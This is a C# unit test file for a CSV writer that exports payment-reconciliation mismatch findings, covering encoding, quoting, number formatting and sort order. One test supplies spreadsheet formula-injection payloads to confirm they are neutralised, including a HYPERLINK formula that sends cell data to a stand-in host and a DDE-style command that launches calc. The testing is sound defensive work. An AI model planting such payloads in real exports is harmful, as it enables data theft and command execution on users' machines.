using Reconciler.Testing;
using Reconciler.Core.Matching;
using Reconciler.Reports.Model;
using static Reconciler.Reports.Tests.SampleReports;

namespace Reconciler.Reports.Tests;

public class MismatchesCsvWriterTests
{
    private const string Header =
        "finding_id,order_no,kind,provider,provider_txn_id,vendor,expected_amount,charged_amount,delivered_quantity,ordered_quantity,currency,compensation_action,compensation_amount,status,detail";

    private static string Write(RunReport report) => WriteToString(MismatchesCsvWriter.Write, report);

    private static IReadOnlyList<string[]> Rows(RunReport report) => Rfc4180.Parse(Write(report));

    private static Dictionary<string, string> Row(string[] header, string[] row) =>
        header.Zip(row).ToDictionary(pair => pair.First, pair => pair.Second, StringComparer.Ordinal);

    [Fact]
    public void Write_StartsWithTheExactHeader_WhenThereAreFindings()
    {
        var text = Write(Report());

        text.Should().StartWith(Header + "\n");
    }

    [Fact]
    public void Write_WritesTheHeaderOnly_WhenThereAreNoFindings()
    {
        Write(Report(findings: [])).Should().Be(Header + "\n");
    }

    [Fact]
    public void Write_WritesUtf8WithoutBomAndLfOnly_WhenTextIsChinese()
    {
        var report = Report(findings: [Reported(Finding(FindingKind.Pending, "A1", 1m, detail: "结算文件缺失"))]);

        var bytes = WriteToBytes(MismatchesCsvWriter.Write, report);

        bytes.Take(3).Should().NotEqual(new byte[] { 0xEF, 0xBB, 0xBF });
        bytes.Should().NotContain((byte)'\r');
        System.Text.Encoding.UTF8.GetString(bytes).Should().Contain("结算文件缺失");
    }

    [Fact]
    public void Write_WritesOneRowPerKind_WithSnakeCaseKindAndActionNames()
    {
        var rows = Rows(Report());
        var header = rows[0];

        rows.Should().HaveCount(1 + Enum.GetValues<FindingKind>().Length);
        rows.Skip(1).Select(r => Row(header, r)["kind"]).Should().BeEquivalentTo(
            Enum.GetValues<FindingKind>().Select(k => k.ToName()));
        rows.Skip(1).Should().OnlyContain(r => r.Length == 15);

        var duplicate = Row(header, rows.Single(r => r[2] == "duplicate_charge"));
        duplicate.Should().Contain(new Dictionary<string, string>
        {
            ["finding_id"] = "id-A100-duplicate_charge",
            ["order_no"] = "A100",
            ["provider"] = "wechat",
            ["provider_txn_id"] = "42000A100",
            ["vendor"] = "fulu",
            ["expected_amount"] = "1296.00",
            ["charged_amount"] = "1296.00",
            ["delivered_quantity"] = "0",
            ["ordered_quantity"] = "1",
            ["currency"] = "CNY",
            ["compensation_action"] = "refund",
            ["compensation_amount"] = "648.00",
            ["status"] = "new",
            ["detail"] = "detail",
        });
        Row(header, rows.Single(r => r[2] == "partially_delivered"))["compensation_action"].Should().Be("redeliver");
        Row(header, rows.Single(r => r[2] == "amount_mismatch"))["compensation_action"].Should().Be("manual_review");
        Row(header, rows.Single(r => r[2] == "pending"))["compensation_action"].Should().Be("none");
        Row(header, rows.Single(r => r[2] == "charged_not_delivered"))["status"].Should().Be("open");
    }

    [Fact]
    public void Write_LeavesResolvedFindingsOut_WhenTheReportHasSome()
    {
        Write(Report()).Should().NotContain("A090");
    }

    [Fact]
    public void Write_LeavesNullColumnsEmpty_WhenAFindingHasNoAmountsOrQuantities()
    {
        var finding = Finding(FindingKind.OrphanCharge, null, txnId: "ch_1", vendor: null) with
        {
            DeliveredQuantity = null,
            OrderedQuantity = null,
        };

        var line = Write(Report(findings: [Reported(finding)])).Split('\n')[1];

        line.Should().Be("id-ch_1-orphan_charge,,orphan_charge,wechat,ch_1,,,,,,CNY,manual_review,,new,detail");
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")")]
    [InlineData("+1", "'+1")]
    [InlineData("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)", "'@SUM(1+1)")]
    [InlineData("\tfoo", "'\tfoo")]
    [InlineData("\rfoo", "'\rfoo")]
    [InlineData("-12.50", "-12.50")]
    [InlineData("-7", "-7")]
    [InlineData("A-1", "A-1")]
    public void Write_NeutralisesFormulaText_UnlessItIsAPlainNumber(string hostile, string expected)
    {
        var finding = Finding(FindingKind.OrphanCharge, hostile, 1m, txnId: hostile, detail: hostile) with { Vendor = hostile };

        var rows = Rows(Report(findings: [Reported(finding)]));
        var row = Row(rows[0], rows[1]);

        row["order_no"].Should().Be(expected);
        row["provider_txn_id"].Should().Be(expected);
        row["vendor"].Should().Be(expected);
        row["detail"].Should().Be(expected);
    }

    [Fact]
    public void Write_LeavesNegativeAmountsAsNumbers_WhenACompensationIsNegative()
    {
        var finding = Finding(FindingKind.CompensatedButResolved, "A1", -30.00m, -12.5m);

        var rows = Rows(Report(findings: [Reported(finding)]));
        var row = Row(rows[0], rows[1]);

        row["charged_amount"].Should().Be("-30.00");
        row["compensation_amount"].Should().Be("-12.50");
    }

    [Fact]
    public void Write_QuotesPerRfc4180_WhenTextHoldsCommasQuotesOrLineBreaks()
    {
        var finding = Finding(FindingKind.Pending, "A1", 1m, detail: "said \"hi\", then\r\nleft\rearly");

        var text = Write(Report(findings: [Reported(finding)]));

        text.Should().EndWith(",\"said \"\"hi\"\", then\r\nleft\rearly\"\n");
        Row(Rfc4180.Parse(text)[0], Rfc4180.Parse(text)[1])["detail"].Should().Be("said \"hi\", then\r\nleft\rearly");
    }

    [Fact]
    public void Write_WritesTwoDecimals_WhenAmountsHaveFewerOrMore()
    {
        var finding = Finding(FindingKind.PartiallyDelivered, "A1", 0.1m, 1000000m) with { ExpectedAmount = 7.125m };

        var row = Rows(Report(findings: [Reported(finding)]))[1];

        row[6].Should().Be("7.13");
        row[7].Should().Be("0.10");
        row[12].Should().Be("1000000.00");
    }

    [Fact]
    public void Write_UsesTheInvariantCulture_WhenTheCurrentCultureIsGerman()
    {
        using var german = new CultureScope("de-DE");
        var finding = Finding(FindingKind.DuplicateCharge, "A1", 1234.5m, 0.1m);

        var row = Rows(Report(findings: [Reported(finding)]))[1];

        row[7].Should().Be("1234.50");
        row[12].Should().Be("0.10");
    }

    [Fact]
    public void Write_SortsByOrderNoElseTxnIdThenKind_Ordinally()
    {
        IReadOnlyList<ReportedFinding> findings =
        [
            Reported(Finding(FindingKind.Pending, "b1", 1m)),
            Reported(Finding(FindingKind.OrphanCharge, null, 1m, txnId: "B0")),
            Reported(Finding(FindingKind.DuplicateCharge, "A2", 1m)),
            Reported(Finding(FindingKind.ChargedNotDelivered, "A2", 1m)),
            Reported(Finding(FindingKind.AmountMismatch, "A10", 1m)),
        ];

        var rows = Rows(Report(findings: findings)).Skip(1).Select(r => (r[1] + "|" + r[4] + "|" + r[2])).ToList();

        rows.Should().Equal(
            "A10|42000A10|amount_mismatch",
            "A2|42000A2|charged_not_delivered",
            "A2|42000A2|duplicate_charge",
            "|B0|orphan_charge",
            "b1|42000b1|pending");
    }
}
